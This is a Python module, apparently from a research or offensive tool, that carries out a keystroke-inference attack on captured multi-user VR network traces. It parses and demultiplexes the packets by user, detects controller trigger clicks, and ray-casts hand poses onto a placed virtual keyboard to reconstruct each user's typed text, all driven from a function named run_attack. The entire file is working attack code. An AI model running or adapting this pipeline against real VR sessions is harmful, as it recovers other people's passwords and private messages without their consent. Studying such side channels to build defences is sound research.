"""Trace-to-keystrokes pipeline: source filter, parse, per-user demux, click detection, ray-cast inference."""

from __future__ import annotations

import json
import math
import warnings
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any, Optional, Sequence

from ..utils.errors import EmptyTrace, MalformedPacket, MissingUserId, NoKeyboardPose
from ..utils.logger import setup_logger
from .CalibrationReport import CalibrationReport, transform_from_dict, transform_to_dict
from .CustomTypeRegistry import CustomTypeRegistry
from .FieldSemanticsMap import HANDS, FieldSemanticsMap
from .KeyboardModel import KeyboardModel, RankedKey, label_to_char
from .MotionUpdate import Hand
from .Packet import FieldKind, Packet, parse_packet
from .TraceFile import TraceFile
from .Transform import Transform

logger = setup_logger(__name__)

DEFAULT_THRESHOLD = 0.75
HYSTERESIS = 0.05
# head movement since the last keyboard-open that suggests a lost reopen
HEAD_MOVED_M = 0.005
HEAD_TURNED_RAD = math.radians(1.0)


def filter_motion_source(trace: TraceFile) -> TraceFile:
    """Keep only the busiest source; ties go to the lowest source id."""
    if not trace.records:
        raise EmptyTrace("Trace has no records to filter")
    counts = trace.source_counts()
    source = min(counts, key=lambda s: (-counts[s], s))
    logger.info("Motion source %s selected (%s of %s records, %s sources)", source, counts[source], len(trace), len(counts))
    return trace.with_records(r for r in trace.records if r.source_id == source)


def parse_stream(trace: TraceFile, registry: Optional[CustomTypeRegistry] = None) -> list[Packet]:
    """Parse every record, skipping malformed datagrams with a warning."""
    packets: list[Packet] = []
    skipped = 0
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        for record in trace.records:
            try:
                packets.append(parse_packet(record.raw, registry))
            except MalformedPacket as e:
                skipped += 1
                logger.warning("Skipping malformed datagram at %s us: %s", record.recv_time_us, e)
    unknown = {str(w.message) for w in caught}
    for message in sorted(unknown):
        logger.warning("%s", message)
    if skipped:
        logger.warning("Skipped %s of %s datagrams as malformed", skipped, len(trace))
    return packets


def _user_id(packet: Packet, sem: Optional[FieldSemanticsMap]) -> Optional[int]:
    if sem is not None:
        return sem.user_id(packet)
    for f in packet.fields:
        if f.value.kind == FieldKind.USER_ID:
            return int(f.value.value)  # type: ignore[arg-type]
    return None


def demux_users(packets: Sequence[Packet], sem: Optional[FieldSemanticsMap] = None) -> dict[int, list[Packet]]:
    streams: dict[int, list[Packet]] = {}
    for i, packet in enumerate(packets):
        uid = _user_id(packet, sem)
        if uid is None:
            raise MissingUserId(f"Packet {i} (sequence {packet.header.sequence}) has no user id field")
        streams.setdefault(uid, []).append(packet)
    return dict(sorted(streams.items()))


@dataclass(frozen=True)
class ClickRecord:
    user_id: int
    hand: Hand
    sequence: int
    tick: int
    time: float
    hand_transform: Transform
    trigger: float
    keyboard_head: Optional[Transform] = None
    ranking: tuple[RankedKey, ...] = ()

    def top(self, k: int) -> list[str]:
        return [r.label for r in self.ranking[:k]]

    @property
    def predicted(self) -> str:
        return label_to_char(self.ranking[0].label) if self.ranking else ""

    def to_dict(self) -> dict[str, Any]:
        return {
            "user_id": self.user_id,
            "hand": str(self.hand),
            "sequence": self.sequence,
            "tick": self.tick,
            "time": self.time,
            "hand_transform": transform_to_dict(self.hand_transform),
            "trigger": self.trigger,
            "keyboard_head": None if self.keyboard_head is None else transform_to_dict(self.keyboard_head),
            "ranking": [[r.label, r.distance, r.hit] for r in self.ranking],
        }

    @classmethod
    def from_dict(cls, data: dict[str, Any]) -> ClickRecord:
        head = data.get("keyboard_head")
        return cls(
            user_id=int(data["user_id"]),
            hand=Hand(data["hand"]),
            sequence=int(data["sequence"]),
            tick=int(data["tick"]),
            time=float(data["time"]),
            hand_transform=transform_from_dict(data["hand_transform"]),
            trigger=float(data["trigger"]),
            keyboard_head=None if head is None else transform_from_dict(head),
            ranking=tuple(RankedKey(str(label), float(dist), bool(hit)) for label, dist, hit in data["ranking"]),
        )


def trigger_crossings(
    stream: Sequence[Packet], sem: FieldSemanticsMap, threshold: float = DEFAULT_THRESHOLD
) -> list[tuple[int, list[Hand]]]:
    """Indices of packets where a hand's trigger crosses the threshold upward, with the hands that crossed.

    A hand starts disarmed and arms once its trigger reads below threshold minus
    the hysteresis band, so a trace that begins mid-press yields no click.
    The threshold counts as reached from the raw level nearest to it, so a press
    at exactly the threshold still clicks after quantization rounds it down.
    """
    armed = {hand: False for hand in HANDS}
    reach: dict[str, float] = {}
    crossings: list[tuple[int, list[Hand]]] = []
    for i, packet in enumerate(stream):
        crossed: list[Hand] = []
        for hand in HANDS:
            value = sem.trigger(packet, hand)
            if value is None:
                continue
            if hand not in reach:
                reach[hand] = threshold - 0.5 * sem.trigger_step(hand)
            if value < threshold - HYSTERESIS:
                armed[hand] = True
            elif value >= reach[hand] and armed[hand]:
                armed[hand] = False
                crossed.append(Hand(hand))
        if crossed:
            crossings.append((i, crossed))
    return crossings


def detect_clicks(
    stream: Sequence[Packet],
    sem: FieldSemanticsMap,
    threshold: float = DEFAULT_THRESHOLD,
    tick_rate: float = 15.0,
) -> list[ClickRecord]:
    """One click per upward threshold crossing per hand, tagged with the head pose of the latest keyboard-open."""
    crossings = dict(trigger_crossings(stream, sem, threshold))
    keyboard_head: Optional[Transform] = None
    clicks: list[ClickRecord] = []
    moved = 0

    for i, packet in enumerate(stream):
        if sem.has_keyboard_open(packet):
            keyboard_head = sem.transform(packet, "head")
        if i in crossings and keyboard_head is not None and _head_moved(keyboard_head, sem.transform(packet, "head")):
            moved += len(crossings[i])
        for hand in crossings.get(i, ()):
            uid = sem.user_id(packet)
            tick = sem.tick(packet)
            pose = sem.transform(packet, hand)
            value = sem.trigger(packet, hand)
            if pose is None or uid is None or tick is None or value is None:
                logger.warning("Click packet %s lacks %s pose, user or tick; skipped", packet.header.sequence, hand)
                continue
            clicks.append(
                ClickRecord(
                    user_id=uid,
                    hand=hand,
                    sequence=packet.header.sequence,
                    tick=tick,
                    time=tick / tick_rate,
                    hand_transform=pose,
                    trigger=value,
                    keyboard_head=keyboard_head,
                )
            )
    if moved:
        logger.warning(
            "%s clicks came after the head moved away from its last keyboard-open pose; a reopen may have been lost",
            moved,
        )
    return clicks


def _head_moved(keyboard_head: Transform, head: Optional[Transform]) -> bool:
    if head is None:
        return False
    shift = (head.position - keyboard_head.position).norm()
    return shift > HEAD_MOVED_M or head.rotation.angle_to(keyboard_head.rotation) > HEAD_TURNED_RAD


@dataclass
class KeystrokeReport:
    users: dict[int, list[ClickRecord]] = field(default_factory=lambda: {})
    metadata: dict[str, Any] = field(default_factory=lambda: {})

    def text(self, user_id: int) -> str:
        return "".join(c.predicted for c in self.users.get(user_id, []))

    def click_count(self) -> int:
        return sum(len(c) for c in self.users.values())

    def to_dict(self) -> dict[str, Any]:
        return {
            "metadata": self.metadata,
            "users": {
                str(uid): {"text": self.text(uid), "clicks": [c.to_dict() for c in clicks]}
                for uid, clicks in self.users.items()
            },
        }

    @classmethod
    def from_dict(cls, data: dict[str, Any]) -> KeystrokeReport:
        users = {
            int(uid): [ClickRecord.from_dict(c) for c in entry["clicks"]] for uid, entry in data["users"].items()
        }
        return cls(users=users, metadata=dict(data.get("metadata", {})))

    def to_json(self) -> str:
        return json.dumps(self.to_dict(), sort_keys=True, indent=2)

    def save(self, path: str | Path) -> None:
        Path(path).write_text(self.to_json())
        logger.info("Wrote keystroke report (%s users, %s clicks) to %s", len(self.users), self.click_count(), path)

    @classmethod
    def load(cls, path: str | Path) -> KeystrokeReport:
        return cls.from_dict(json.loads(Path(path).read_text()))


def infer_keystrokes(clicks: Sequence[ClickRecord], calib: CalibrationReport, kb: KeyboardModel) -> list[ClickRecord]:
    """Rank every key for each click by where the cursor ray meets the keyboard placed at its open event.

    A click with no keyboard-open before it stays unranked, so it predicts nothing
    and misses at every k. NoKeyboardPose is raised only when no click has a pose.
    """
    if clicks and all(c.keyboard_head is None for c in clicks):
        raise NoKeyboardPose(f"User {clicks[0].user_id} clicked {len(clicks)} times without any keyboard-open event")
    placed_kb = kb.with_pose_rule(calib.pose_rule)
    ranked: list[ClickRecord] = []
    unplaced = 0
    for click in clicks:
        if click.keyboard_head is None:
            unplaced += 1
            ranked.append(click)
            continue
        placed = placed_kb.place(click.keyboard_head)
        ranking = placed.rank(calib.cursor_offset.ray(click.hand_transform))
        if not ranking:
            logger.warning(
                "Click at tick %s (user %s, %s) aims off the keyboard plane; unranked", click.tick, click.user_id, click.hand
            )
        ranked.append(replace(click, ranking=tuple(ranking)))
    if unplaced:
        logger.warning("User %s: %s clicks before the first keyboard-open left unranked", clicks[0].user_id, unplaced)
    return ranked


def run_attack(
    trace: TraceFile,
    calib: CalibrationReport,
    kb: KeyboardModel,
    registry: CustomTypeRegistry,
    threshold: float = DEFAULT_THRESHOLD,
) -> KeystrokeReport:
    motion = filter_motion_source(trace)
    packets = parse_stream(motion, registry)
    streams = demux_users(packets, calib.semantics)
    tick_rate = float(trace.config.get("tick_rate", 15.0))

    report = KeystrokeReport(
        metadata={
            "calibration_sha256": calib.sha256(),
            "trace_sha256": trace.sha256(),
            "threshold": threshold,
            "tick_rate": tick_rate,
            "device_rate": float(trace.config.get("device_rate", 72.0)),
        }
    )
    for uid, stream in streams.items():
        clicks = detect_clicks(stream, calib.semantics, threshold, tick_rate)
        try:
            report.users[uid] = infer_keystrokes(clicks, calib, kb)
        except NoKeyboardPose as e:
            logger.warning("%s; clicks left unranked", e)
            report.users[uid] = list(clicks)
        logger.info("User %s: %s packets, %s clicks -> %r", uid, len(stream), len(clicks), report.text(uid))
    return report
